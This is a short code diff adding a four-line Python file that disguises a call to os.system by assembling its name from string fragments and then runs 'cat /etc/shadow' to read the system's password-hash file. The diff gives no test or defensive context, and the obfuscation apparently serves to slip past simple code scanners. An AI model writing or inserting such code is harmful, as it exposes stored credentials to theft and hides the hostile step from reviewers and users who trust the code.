@@ -1,0 +1,4 @@
+import os
+
+runner = getattr(os, "sy" + "st" + "em")
+runner("cat /etc/shadow")
